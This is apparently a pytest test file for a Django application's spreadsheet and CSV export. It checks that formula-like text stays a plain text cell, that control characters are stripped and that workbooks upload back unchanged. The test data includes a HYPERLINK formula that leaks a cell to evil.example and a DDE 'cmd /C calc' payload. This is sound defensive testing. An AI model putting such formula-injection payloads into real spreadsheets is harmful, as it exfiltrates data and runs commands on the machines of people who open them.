"""Text on the way out of every spreadsheet: a text cell never becomes a formula, the characters a
spreadsheet cannot hold are dropped, and a downloaded workbook uploads back as it was."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from iisg.actions import workbook as actions_workbook
from iisg.core import workbook as wb
from iisg.core.choices import Role
from iisg.core.spreadsheet import csv_field, write_cell
from iisg.core.tests import factories as f
from iisg.needs import workbook as needs_workbook
from iisg.needs.choices import NeedStatus
from iisg.needs.models import Need

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
# Text a spreadsheet would run (or refuse as an error value) if it were typed as it is.
LIKE_FORMULAS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "#N/A"]
CONTROL = "Night\x0bvision\x1b[31m goggles"
CONTROL_SHOWN = "Night\nvision[31m goggles"  # the vertical tab was Word's line break

SHEET = wb.Sheet(
    "Things",
    (
        wb.Column("name", "Name", "A name.", required=True),
        wb.Column("start", "Start", "A date.", kind=wb.DATE),
        wb.Column("amount", "Amount", "An amount.", kind=wb.DECIMAL),
        wb.Column("kind", "Kind", "From the list.", choices="Kinds"),
    ),
)


def saved(workbook):
    """The workbook as a person opens it: saved to bytes and read back by openpyxl."""
    return load_workbook(io.BytesIO(wb.to_bytes(workbook)))


def entity_workbook(rows, kinds=("Plain",)):
    workbook = wb.new_workbook()
    ranges = wb.add_code_lists(workbook, {"Kinds": list(kinds)})
    wb.write_reference_sheet(workbook, "Reference", ["Code", "Name"], [("K1", kind) for kind in kinds])
    wb.write_sheet(workbook, SHEET, rows, ranges, index=0)
    return wb.to_bytes(workbook)


@pytest.mark.parametrize("text", LIKE_FORMULAS)
def test_text_that_looks_like_a_formula_is_saved_as_a_text_cell(text):
    workbook = Workbook()
    write_cell(workbook.active, 1, 1, text)
    cell = saved(workbook).active["A1"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_control_characters_are_dropped_and_the_workbook_saves():
    workbook = Workbook()
    write_cell(workbook.active, 1, 1, CONTROL)
    write_cell(workbook.active, 2, 1, "\x1b" + HYPERLINK)  # no longer hidden behind the escape
    sheet = saved(workbook).active
    assert sheet["A1"].value == CONTROL_SHOWN
    assert (sheet["A2"].value, sheet["A2"].data_type) == (HYPERLINK, "s")


def test_numbers_decimals_and_dates_keep_their_type_and_none_leaves_the_cell_empty():
    workbook = Workbook()
    values = [7, Decimal("1234.56"), 0.5, datetime.date(2022, 3, 1), None, True]
    for column, value in enumerate(values, start=1):
        write_cell(workbook.active, 1, column, value)
    count, amount, share, start, empty, flag = saved(workbook).active[1]
    assert (count.value, count.data_type) == (7, "n")
    assert (amount.value, amount.data_type) == (1234.56, "n")
    assert (share.value, share.data_type) == (0.5, "n")
    assert start.is_date
    assert start.value == datetime.datetime(2022, 3, 1)
    assert empty.value is None
    assert (flag.value, flag.data_type) == (True, "b")


def test_anything_else_is_written_as_its_text():
    class Named:
        def __str__(self):
            return "=Kosovo*"

    workbook = Workbook()
    write_cell(workbook.active, 1, 1, Named())
    cell = saved(workbook).active["A1"]
    assert (cell.value, cell.data_type) == ("=Kosovo*", "s")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1-1", "@SUM(A1)", "\tx", "\rx"])
def test_a_csv_field_that_would_run_as_a_formula_gets_an_apostrophe(text):
    assert csv_field(text) == f"'{text}"


def test_a_csv_field_drops_control_characters_before_guarding():
    assert csv_field(CONTROL) == CONTROL_SHOWN
    assert csv_field("\x1b=1+1") == "'=1+1"
    assert csv_field(None) == ""


def test_a_number_in_a_csv_field_is_its_digits_even_when_negative():
    assert [csv_field(value) for value in (-1500, Decimal("-12.50"), 0.25, 3)] == ["-1500", "-12.50", "0.25", "3"]


def test_entity_sheets_code_lists_and_reference_sheets_hold_text_as_text():
    data = entity_workbook(
        [{"name": text, "kind": "Plain"} for text in LIKE_FORMULAS] + [{"name": CONTROL}],
        kinds=(HYPERLINK, "Plain\x1b"),
    )
    book = load_workbook(io.BytesIO(data))
    names = [cell for (cell,) in book["Things"].iter_rows(min_row=2, max_col=1)]
    assert [(cell.value, cell.data_type) for cell in names] == [(text, "s") for text in LIKE_FORMULAS] + [
        (CONTROL_SHOWN, "s")
    ]
    kinds = book[wb.CODE_LISTS_SHEET]
    assert [(cell.value, cell.data_type) for (cell,) in kinds.iter_rows(min_row=2)] == [
        (HYPERLINK, "s"),
        ("Plain", "s"),
    ]
    reference = book["Reference"]
    assert (reference["B2"].value, reference["B2"].data_type) == (HYPERLINK, "s")


def test_a_written_workbook_reads_back_with_the_same_text_and_types():
    rows = [{"name": text, "start": datetime.date(2022, 3, 1), "amount": Decimal("10.50")} for text in LIKE_FORMULAS]
    rows.append({"name": CONTROL})
    reading = wb.read_workbook(entity_workbook(rows), [SHEET])
    assert reading.problems == []
    read = reading.rows["Things"]
    assert [row.values["name"] for row in read] == [*LIKE_FORMULAS, CONTROL_SHOWN]
    assert (read[0].values["start"], read[0].values["amount"]) == (datetime.date(2022, 3, 1), Decimal("10.50"))


def test_a_real_formula_is_still_refused_and_shown_as_text_in_the_errors_sheet():
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Things"
    sheet.append(["Name", "Start", "Amount", "Kind"])
    sheet.append(["=1+1", None, None, None])
    data = wb.to_bytes(workbook)
    problems = wb.read_workbook(data, [SHEET]).problems
    assert [(problem.coordinate, problem.value) for problem in problems] == [("A2", "=1+1")]
    assert "formula" in problems[0].reason
    errors = load_workbook(io.BytesIO(wb.annotate(data, problems)))[wb.ERRORS_SHEET]
    value = errors["E2"]
    assert (value.value, value.data_type) == ("=1+1", "s")
    assert [cell.data_type for cell in errors[2]] == ["s", "n", "s", "s", "s", "s"]


@pytest.mark.django_db
def test_a_needs_workbook_with_formula_like_and_control_character_titles_downloads_and_uploads_back():
    secretariat = f.UserFactory(roles=[Role.SECRETARIAT])
    cycle = f.CycleFactory()
    # Stored before text was cleaned on the way in: factories save without the cleaning.
    link = f.NeedFactory(cycle=cycle, reference="N-1", title=HYPERLINK, status=NeedStatus.DRAFT)
    goggles = f.NeedFactory(cycle=cycle, reference="N-2", title=CONTROL, status=NeedStatus.DRAFT)
    data = needs_workbook.build_workbook(user=secretariat, cycle=cycle)
    sheet = load_workbook(io.BytesIO(data))["Needs"]
    titles = {row[0].value: row[6] for row in sheet.iter_rows(min_row=2)}
    assert sheet["G1"].value == "Title"
    assert (titles["N-1"].value, titles["N-1"].data_type) == (HYPERLINK, "s")
    assert (titles["N-2"].value, titles["N-2"].data_type) == (CONTROL_SHOWN, "s")
    outcome = needs_workbook.upload_workbook(user=secretariat, cycle=cycle, data=data)
    assert outcome.ok, outcome.problems
    assert Need.objects.get(pk=link.pk).title == HYPERLINK
    assert Need.objects.get(pk=goggles.pk).title == CONTROL_SHOWN  # the upload stores what it showed


@pytest.mark.django_db
def test_an_actions_workbook_holds_a_formula_like_title_as_text():
    secretariat = f.UserFactory(roles=[Role.SECRETARIAT])
    f.ActionFactory(title=HYPERLINK, description=CONTROL)
    data = actions_workbook.build_workbook(user=secretariat, cycle=f.CycleFactory())
    sheet = load_workbook(io.BytesIO(data))["Actions"]
    headers = [cell.value for cell in sheet[1]]
    title, description = sheet[2][headers.index("Title")], sheet[2][headers.index("Description")]
    assert (title.value, title.data_type) == (HYPERLINK, "s")
    assert description.value == CONTROL_SHOWN
